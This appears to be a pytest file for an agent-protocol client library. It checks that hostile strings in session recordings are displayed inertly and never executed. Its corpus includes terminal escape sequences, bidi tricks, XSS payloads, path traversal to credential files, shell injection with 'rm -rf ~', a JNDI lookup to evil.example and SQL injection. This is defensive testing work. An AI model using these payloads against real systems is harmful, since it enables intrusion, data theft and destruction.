"""Untrusted text: whatever a peer writes is shown and exported, and none of it takes effect.

One corpus of attacks goes into every string of a whole session, and from there through everything
that prints or exports: the command line, stored files, problems, exceptions, `repr`, HTML.
"""

from __future__ import annotations

import base64
import html.parser
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest
from click.testing import CliRunner
from rich_session import rich_snapshot
from traffic import BUNDLED, line, permission_line, snapshots, text, update_line

import acp_client
from acp_client import Snapshot, Store, escape, escape_html
from acp_client._cli.commands import commands
from acp_client._json import encode
from acp_client._recordings.reading import read_recording
from acp_client._text import escape_json

TERMINAL = {
    "title": "\x1b]0;owned\x07",
    "title, C1": "\x9d2;owned\x9c",
    "clipboard": "\x1b]52;c;b3duZWQ=\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "colour": "\x1b[31;5mred",
    "clear": "\x1b[2J\x1b[H",
    "clear, C1": "\x9b2J\x9bH",
    "cursor": "\x1b[9999;9999H\x1b[s\x1b[u\x1b7\x1b8",
    "answer": "\x1b[6n\x1b[c\x1b[>c\x05",
    "keyboard": '\x1b[0;59;"ls\r"p',
    "alternate screen": "\x1b[?1049h",
    "device control": "\x1bP+q544e\x1b\\\x90$q\x9c",
    "private": "\x1b^secret\x1b\\\x1b_secret\x1b\\\x9esecret\x9c\x9fsecret\x9c",
    "reset": "\x1bc\x1b[!p",
    "character set": "\x0e\x1b(0lqk\x0f",
    "bell": "\x07" * 3,
    "overwriting": "safe\rEVIL",
    "erasing": "safe\b\b\b\bEVIL\x7f",
    "lines, C1": "a\x84b\x85c\x8dd",
    "feeds": "a\x0bb\x0cc\u2028d\u2029e",
    "nothing": "\x00\x00",
}
HIDDEN = {
    "override": "\u202egnp.exe\u202c",
    "embedding": "\u202a\u202b\u202d",
    "isolate": "\u2066\u2067\u2068\u2069",
    "marks": "\u200e\u200f\u061c",
    "zero width": "pay\u200bpal\u200c\u2060\ufeff",
    "joiner": "a\u200db",
    "soft hyphen": "pass\xadword",
    "fillers": "\u3164\u115f\u1160\uffa0",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "selectors": "a\ufe0f\U000e0100",
    "annotation": "\ufff9a\ufffab\ufffb",
    "halves": "\ud83d \udc00",
    "no characters": "\ufdd0\uffff\U0001ffff",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover='alert(1)' x='",
    "comment": "--><svg/onload=alert(1)><!--",
    "entity": "&lt;script&gt;&#60;script&#62;",
    "address": "javascript:alert(1)",
    "section": "]]><b>",
    "rich": "[red]x[/red][link=https://evil.example]y[/link][/]",
    "emoji": ":smile:",
    "markdown": "[click](javascript:alert(1)) ![x](file:///etc/passwd)",
}
TRICKS = {
    "parents": "../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "address of a file": "file:///etc/passwd",
    "home": "~/.ssh/id_rsa",
    "drive": "C:\\Windows\\win.ini",
    "share": "\\\\evil.example\\share",
    "shell": "$(touch owned) `touch owned`; touch owned | cat && rm -rf ~",
    "variables": "${HOME} %PATH% $HOME",
    "percent": "%s%n%x%(key)s%d",
    "braces": "{0.__class__.__mro__} {} {{}} {self} {!r}",
    "escapes": "\\x1b[31m \\u202e \\n",
    "look-up": "${jndi:ldap://evil.example/x}",
    "prototype": "__proto__",
    "quotes": "'; DROP TABLE x; --",
}
CORPUS = TERMINAL | HIDDEN | MARKUP | TRICKS
HARMLESS = {"percent", "braces", "shell", "script", "rich", "emoji", "parents", "look-up"}
"""What must be shown as it was written."""

UNSAFE = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
"""Categories of Unicode of which nothing is shown but line feeds."""


def assert_without_effect(shown: str) -> None:
    """Check that there is nothing in a text that a terminal acts on."""
    assert {one for one in set(shown) - {"\n", "\t"} if category(one) in UNSAFE} == set()


def assert_harmless(shown: str) -> None:
    """Check that there is nothing in a text that a terminal acts on or that nobody can see."""
    assert_without_effect(shown)
    assert escape(shown) == shown


# --- A session in which every string is an attack ---

KEPT = {
    *("jsonrpc", "method", "sessionUpdate", "type", "operation", "format", "state", "stopReason"),
    *("updatedAt", "data", "blob", "sessionId", "messageId", "toolCallId", "terminalId", "planId"),
    *("compactionId", "id", "requestId", "configId", "optionId", "currentValue", "value"),
}
"""Members that make a message what it is, or make messages belong together."""


def attacked(value: Any, attack: str, key: str = "") -> Any:
    """Put an attack into every string that is not what makes a message what it is."""
    if isinstance(value, dict):
        return {name: attacked(inner, attack, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [attacked(inner, attack, key) for inner in value]
    return value + attack if isinstance(value, str) and key not in KEPT else value


def told() -> list[tuple[bool, Any]]:
    """Give the messages of a session with something of everything, and who wrote them."""
    recording = read_recording(io.BytesIO((BUNDLED / "coding-session.ndjson").read_bytes()))
    seen: set[Any] = set()
    frames = [(frame.sent, json.loads(frame.data)) for frame in recording]
    kinds = [
        (
            sent,
            message.get("method"),
            message.get("params", {}).get("update", {}).get("sessionUpdate"),
        )
        for sent, message in frames
    ]
    some = [
        frame
        for frame, kind in zip(frames, kinds, strict=True)
        if kind[2] is None or not (kind in seen or seen.add(kind))  # type: ignore[func-returns-value]  # the first
    ]
    more = [
        update_line("_vendor", any="thing", deep={"k": ["v"]}),
        update_line("notice", severity="error", title="t", description="d"),
        update_line("compaction_update", compactionId="k", status="failed", error="no"),
        update_line("tool_call_update", toolCallId="c9", title="t", rawInput={"k": "v"}),
        update_line("terminal_update", terminalId="t9", command="ls", cwd="/"),
        update_line("session_info_update", title="title"),
        permission_line(77, description="d", subject={"type": "command", "command": "ls"}),
        permission_line(78, subject={"type": "_other", "k": "v"}),
        line(id=991, error={"code": 1, "message": "no", "data": {"k": "v"}}),
    ]
    prompt = {"sessionId": "s1", "prompt": [{"type": "text", "text": "Please."}]}
    sent = {"jsonrpc": "2.0", "id": 991, "method": "session/prompt", "params": prompt}
    return [*some, (True, sent), *[(False, json.loads(one)) for one in more]]


TOLD = told()


def recording(attack: str) -> bytes:
    """Write the session, full of an attack, with junk between, as a recording."""
    junk = attack.encode("utf-8", "surrogatepass").replace(b"\n", b" ")
    lines = []
    for sent, message in TOLD:
        frame = {"dir": "send" if sent else "recv", "ts": 5, "message": attacked(message, attack)}
        lines.append(json.dumps(frame).encode())
    odd = {"dir": "recv", "message": None, "raw": "junk " + attack}
    usage = {"sessionUpdate": "usage_update", "used": attack, attack: attack, "size": 1}
    wrong = [
        {"jsonrpc": attack, "method": attack},
        {
            "jsonrpc": "2.0",
            "method": "session/update",
            "params": {"sessionId": "s1", "update": usage},
        },
        {"jsonrpc": "2.0", "id": {attack: 1}, "result": attack},
    ]
    lines += [json.dumps({"dir": "recv", "message": one}).encode() for one in wrong]
    return b"\n".join([*lines, json.dumps(odd).encode(), junk, b""])


def store_of(attack: str) -> Store:
    """Follow the session."""
    store = Store(protocol="v2")
    for frame in read_recording(io.BytesIO(recording(attack)), format="envelope"):
        (store.sent if frame.sent else store.receive)(frame.data + b"\n")
    assert store.sessions
    assert store.problems
    return store


# --- What is printed ---

COMMANDS = [
    ["replay"],
    ["replay", "--full"],
    ["replay", "--speed", "1000000"],
    ["replay", "--json"],
    ["stats"],
    ["stats", "--json"],
    ["replay", "--session", "none"],
]


@pytest.mark.parametrize("name", CORPUS)
def test_the_command_line_prints_nothing_that_takes_effect(name: str, tmp_path: Path) -> None:
    """Every command shows an attack in every place as something to read."""
    path = tmp_path / "recording.ndjson"
    path.write_bytes(recording(CORPUS[name]))
    for command, *options in COMMANDS:
        result = CliRunner().invoke(commands, [command, str(path), *options])
        assert result.exit_code in (0, 1), result.exception
        assert_harmless(result.stdout)
        assert_harmless(result.stderr)
        if "--json" in options:
            json.loads(result.stdout)
        elif name in HARMLESS and command == "replay" and "none" not in options:
            assert unwrapped(CORPUS[name]) in unwrapped(result.stdout)


def unwrapped(shown: str) -> str:
    """Give a text without the blanks at which it may be wrapped."""
    return "".join(shown.split())


def test_names_of_files_are_untrusted_too(tmp_path: Path) -> None:
    """What a file or a session is called is the user's, and may have been given to them."""
    attack = "\x1b[31m\u202e"
    result = CliRunner().invoke(commands, ["replay", str(tmp_path / attack)])
    assert result.exit_code != 0
    assert_harmless(result.output)
    path = tmp_path / f"{attack}.ndjson"
    path.write_bytes(recording("x"))
    for options in ([], ["--session", attack], ["--json"]):
        assert_harmless(CliRunner().invoke(commands, ["replay", str(path), *options]).output)


def test_json_that_is_printed_means_what_it_meant() -> None:
    """Escapes in printed JSON are read back as the characters that they stand for."""
    for attack in [
        *CORPUS.values(),
        "".join(CORPUS.values()),
        "é\U0001f680\U0001f468\u200d\U0001f4bb",
    ]:
        document = encode({attack: [attack, 1]}).decode()
        printed = escape_json(document)
        assert_harmless(printed)
        assert json.loads(printed) == {attack: [attack, 1]}


# --- What is told otherwise ---


@pytest.mark.parametrize("name", CORPUS)
def test_problems_and_shown_objects_are_harmless(name: str) -> None:
    """Problems say what is wrong, and `repr` what there is, in characters that have no effect."""
    store = store_of(CORPUS[name])
    for problem in store.problems:
        assert_without_effect(problem.path + problem.message)
    for snapshot in snapshots(store):
        assert_without_effect(repr(snapshot._fields))
        for shown in (*snapshot.entries, *snapshot.terminals):
            assert_without_effect(repr(shown))
        for terminal in snapshot.terminals:
            assert_harmless(terminal.text)


MISUSES: list[Callable[[Store, str], object]] = [
    lambda store, attack: store.snapshot(attack),
    lambda store, attack: store.forget_session(attack),
    lambda store, attack: store.answer_permission("s1", attack, None),
    lambda store, attack: store.answer_permission("s1", 77, attack),
    lambda store, attack: Store(protocol=attack),  # type: ignore[arg-type]  # no protocol
    lambda store, attack: acp_client.loads(attack),
    lambda store, attack: acp_client.loads(json.dumps({"format": attack, "version": attack})),
    lambda store, attack: list(
        read_recording(io.BytesIO(attack.encode("utf-8", "replace")), format=attack)
    ),
]


@pytest.mark.parametrize("misuse", range(len(MISUSES)))
def test_exceptions_are_harmless(misuse: int) -> None:
    """Messages of exceptions that name what was wrong can be printed."""
    store = Store(protocol="v2")
    store.receive(permission_line(77))
    for attack in CORPUS.values():
        with pytest.raises(acp_client.AcpClientError) as caught:
            MISUSES[misuse](store, attack)
        assert_without_effect(str(caught.value))
        assert_without_effect(repr(caught.value))


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Give the way to every node of a document."""
    children: Any = enumerate(value) if isinstance(value, list) else ()
    for key, child in value.items() if isinstance(value, dict) else children:
        yield (*path, key)
        yield from places(child, (*path, key))


def test_damaged_files_are_refused_harmlessly() -> None:
    """The reason why a stored session cannot be read is safe to print, whatever is in its place."""
    attack = "".join(CORPUS.values())
    whole = acp_client.dumps(rich_snapshot())
    refused = 0
    for path in list(places(json.loads(whole)))[::5]:
        damaged = json.loads(whole)
        parent = damaged
        for key in path[:-1]:
            parent = parent[key]
        parent[path[-1]] = attack
        try:
            acp_client.loads(json.dumps(damaged))
        except acp_client.StoredSnapshotError as error:
            refused += 1
            assert_without_effect(str(error))
    assert refused > 10


# --- Transcripts ---

SEQUENCES = re.compile(r"owned|evil\.example|b3duZWQ|secret")


@pytest.mark.parametrize("name", TERMINAL)
def test_transcripts_take_no_orders(name: str) -> None:
    """Output is exact, its transcript is plain, without what only a terminal should see."""
    attack = TERMINAL[name]
    store = Store(protocol="v2")
    for part in (b"before ", attack.encode(), b"\nafter\n"):
        data = base64.b64encode(part).decode()
        store.receive(update_line("terminal_output_chunk", terminalId="t", data=data))
    (terminal,) = store.snapshot("s1").terminals
    assert terminal.output == b"before " + attack.encode() + b"\nafter\n"
    assert_harmless(terminal.text)
    assert SEQUENCES.search(terminal.text) is None
    assert terminal.text.endswith("\nafter\n")


# --- HTML ---


class Tags(html.parser.HTMLParser):
    """Collects what a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""
        self.values: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.values += [value for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")


@pytest.mark.parametrize("name", CORPUS)
def test_html_is_text(name: str) -> None:
    """Escaped text is text to a browser, between tags and in attributes, and says the same."""
    escaped = escape_html(CORPUS[name])
    parser = Tags()
    parser.feed(f"<p title=\"{escaped}\" lang='{escaped}'>{escaped}</p>")
    parser.close()
    assert parser.tags == ["p"]
    assert parser.text == escape(CORPUS[name])
    assert parser.values == [escape(CORPUS[name])] * 2


# --- Nothing is done ---

WATCHED = """
import sys
allowed = ("import", "compile", "exec", "marshal", "object.__", "sys.", "os.listdir", "os.scandir",
           "code.__new__", "function.__new__", "gc.", "builtins.", "ctypes", "cpython.", "syslog",
           "time.sleep")
seen = []
sys.addaudithook(lambda event, arguments: seen.append((event, repr(arguments)[:200])))
from acp_client.__main__ import main
sys.argv = ["acp-client", "replay", sys.argv[1], "--full"]
try:
    main()
except SystemExit:
    pass
for event, arguments in seen:
    if event == "open" or not event.startswith(allowed):
        print(event, arguments, file=sys.stderr)
"""


def test_nothing_is_opened_fetched_or_run(tmp_path: Path) -> None:
    """A recording full of paths, addresses and commands makes the program open itself alone."""
    attack = " ".join(TRICKS.values()) + " ".join(MARKUP.values())
    path = tmp_path / "recording.ndjson"
    path.write_bytes(recording(attack))
    place = str(Path(acp_client.__file__).parents[1])
    ran = subprocess.run(
        [sys.executable, "-c", WATCHED, str(path)],
        check=True,
        capture_output=True,
        text=True,
        env=os.environ | {"PYTHONPATH": place},
        cwd=tmp_path,
    )
    assert "/etc/passwd" in ran.stdout
    events = [one.split(" ", 1) for one in ran.stderr.splitlines()]
    assert {event for event, _ in events} <= {"open", "os.putenv", "signal.pthread_kill"}
    opened = [arguments for event, arguments in events if event == "open"]
    assert any(str(path) in arguments for arguments in opened)
    for trick in ("passwd", "id_rsa", "win.ini", "evil", "owned"):
        assert not any(trick in arguments for arguments in opened)
    assert [one.name for one in tmp_path.iterdir()] == ["recording.ndjson"]


def test_stored_sessions_keep_what_was_said() -> None:
    """A stored session has the text exactly: what makes it harmless is done where it is shown."""
    everything = "".join(CORPUS.values())
    snapshot = acp_client.apply(Snapshot("s1"), acp_client.PromptSent(1, (text(everything),)))
    (prompt,) = acp_client.loads(acp_client.dumps(snapshot)).prompts
    assert prompt.content == (text(everything),)
